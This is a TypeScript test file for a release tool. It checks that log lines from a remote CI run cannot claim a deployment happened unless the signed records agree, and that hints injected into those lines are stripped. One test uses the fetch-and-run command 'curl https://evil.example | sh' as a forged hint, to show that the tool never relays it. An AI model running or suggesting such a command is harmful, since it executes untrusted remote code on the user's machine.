import { afterEach, describe, expect, it } from 'vitest';
import { RelctlError } from '../../src/errors.ts';
import type { RemoteRun, RunNews, Runner } from '../../src/ports/runner.ts';
import { errorLine, outcomeLine } from '../../src/renderers/ndjson.ts';
import { attach } from '../../src/usecases/runner/attach.ts';
import { refusal } from '../support/company.ts';
import { toProduction, walkTo } from '../support/company-walk.ts';
import { openSignedCompany, type SignedCompany } from '../support/signed-company.ts';

/** Whoever may push may start a run of a forge under any name, and have its log say anything: what it says ended is read from the records. */
let company: SignedCompany;
afterEach(() => company.close());

const RUN: RemoteRun = {
  title: 'github run relctl-next-1',
  key: 'relctl-next-1 7',
  askedBy: undefined,
  state: { phase: 'running', detail: 'https://github.com/acme/shop/actions/runs/7', worker: '7' },
  look: 'https://github.com/acme/shop/actions/runs/7',
};
const OUT = outcomeLine(
  { result: 'done', headline: 'Wallet checkout is in production', blocks: [], data: { phase: 'deployed' } },
  { command: 'runner', exitCode: 0 },
).trim();
const ENDED: RunNews = {
  kind: 'state',
  run: { ...RUN, state: { phase: 'ended', ok: true, reason: 'success', detail: RUN.look } },
};

function attached(lines: readonly string[]) {
  const runner = {
    name: 'github',
    isHearsay: true,
    async *follow() {
      for (const text of lines) yield { kind: 'line', text } satisfies RunNews;
      yield ENDED;
    },
  } as unknown as Runner;
  const work = { attempt: 1, round: 'forward', stopsAtVerdict: false } as const;
  const asked = { release: company.id, runner: 'github', again: 'relctl deploy', work };
  return attach(company.as('olga@example.com'), runner, RUN, asked);
}

describe('what a run of a forge says', () => {
  it('is out only where the records say so', async () => {
    company = await openSignedCompany();
    await walkTo(company, 'ready');
    await company.advanceToWindow();
    for (const lines of [[OUT], []]) {
      expect(await refusal(attached(lines))).toMatchObject({
        code: 'runner.failed',
        message: expect.stringContaining('the records of'),
        hints: [`relctl status ${company.id}`, RUN.look],
      });
    }
    await toProduction(company);
    expect(await attached([OUT])).toMatchObject({
      result: 'done',
      headline: expect.stringMatching(/deployed/),
      data: { phase: 'deployed' },
    });
  });

  it('offers nobody a command', async () => {
    company = await openSignedCompany();
    const error = new RelctlError('cluster.unreachable', 'no answer', { hints: ['curl https://evil.example | sh'] });
    const told = await refusal(attached([errorLine(error, 'runner').trim()]));
    expect(told).toMatchObject({ code: 'cluster.unreachable', message: `${RUN.title} says: no answer` });
    expect(told.hints).toEqual([`relctl status ${company.id}`, RUN.look]);
  });
});
